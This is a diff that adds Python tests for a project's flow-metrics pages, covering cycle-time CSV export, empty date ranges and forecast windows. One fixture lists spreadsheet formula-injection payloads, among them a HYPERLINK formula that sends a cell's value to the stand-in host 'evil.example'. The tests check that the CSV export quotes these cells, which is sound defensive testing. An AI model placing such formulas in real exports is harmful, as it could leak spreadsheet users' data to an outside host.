@@ -162,3 +162,75 @@ def test_lead_time_is_shown_beside_cycle_time(client, metrics_history):
     lead = html[html.index('id="lead-time"') :].split("</dl>")[0]
     # Created on the 2nd, done on the 3rd and the 9th: 2 and 8 days.
     assert "<dt>50 %</dt><dd>≤ 2 d</dd>" in lead and "<dt>85 %</dt><dd>≤ 8 d</dd>" in lead
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+2", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(client, flow, foreign):
+    from tests.flow.history import build_history
+
+    build_history(flow)
+    for title in FORMULAS:
+        story_with(flow.scrum_teams[0], ("backlog", "2026-03-02"), ("in_progress", "2026-03-05"),
+                   ("done", "2026-03-06"), title=title)  # fmt: skip
+    services.metric_snapshots_compute(flow_team=flow.flow_team, as_of=AS_OF)
+    client.force_login(flow.po1)
+    table = rows(client.get("/metrics/cycle-time.csv"))
+    titles = [row[1] for row in table[1:]]
+    assert sorted(titles) == sorted(
+        ["Same-day fix", "Invoice export", *("'" + t for t in FORMULAS)]
+    )
+    # Figures stay figures: dates, counts and days are written as they are.
+    fix = next(row for row in table if row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"Open")')
+    assert fix[5:8] == ["2026-03-05", "2026-03-06", "2"]
+
+
+def test_numbers_stay_numbers_and_only_formula_text_is_quoted():
+    from sem.spreadsheet import safe_row
+
+    assert safe_row([-3, -2.5, 0, None, "-3", "a-b", "=1", "story @ noon", "all"]) == [
+        -3, -2.5, 0, None, "'-3", "a-b", "'=1", "story @ noon", "all"
+    ]  # fmt: skip
+
+
+def test_a_range_ending_before_the_history_shows_an_empty_range(client, metrics_history):
+    html = page(client, metrics_history.po1, "?start=2026-02-01&end=2026-02-28").content.decode()
+    assert 'id="range-empty"' in html
+    assert (
+        "No day of 2026-02-01 to 2026-02-28 is in the history, which runs from 2026-03-02" in html
+    )
+    assert "stories finished in 0 days" in html
+    csv_rows = rows(client.get("/metrics/throughput.csv?start=2026-02-01&end=2026-02-28"))
+    assert csv_rows == [["date", "finished"]]
+    html = page(client, metrics_history.po1, "?start=2026-03-03&end=2026-03-09").content.decode()
+    assert 'id="range-empty"' not in html and "stories finished in 7 days" in html
+
+
+def test_a_forecast_from_a_short_history_says_which_days_it_used(client, metrics_history):
+    # The history runs 2026-03-02 to 2026-03-10: 9 days, 2 stories finished.
+    client.force_login(metrics_history.po1)
+    window = client.get("/api/v1/metrics/").json()["forecast"]["window"]
+    assert window == {"start": "2026-03-02", "end": "2026-03-10", "days": 9, "finished": 2,
+                      "usual_days": 60, "short": True}  # fmt: skip
+    html = page(client, metrics_history.po1).content.decode()
+    assert (
+        "The history holds only 9 days so far, fewer than the usual 60: these forecasts "
+        "resample those 9 days (2026-03-02 to 2026-03-10) as they are."
+    ) in " ".join(html.split())
+
+
+def test_a_forecast_from_sixty_days_of_history_is_not_called_short(client, flow):
+    import datetime
+
+    start = datetime.date(2026, 1, 1)
+    for n in range(61):  # one story finished a day, 2026-01-01 to 2026-03-02
+        day = (start + datetime.timedelta(days=n)).isoformat()
+        story_with(flow.scrum_teams[0], ("backlog", day, 8), ("done", day, 9))
+    services.metric_snapshots_compute(flow_team=flow.flow_team, as_of=datetime.date(2026, 3, 2))
+    client.force_login(flow.po1)
+    window = client.get("/api/v1/metrics/").json()["forecast"]["window"]
+    assert window == {"start": "2026-01-02", "end": "2026-03-02", "days": 60, "finished": 60,
+                      "usual_days": 60, "short": False}  # fmt: skip
+    assert 'id="forecast-window-short"' not in page(client, flow.po1).content.decode()
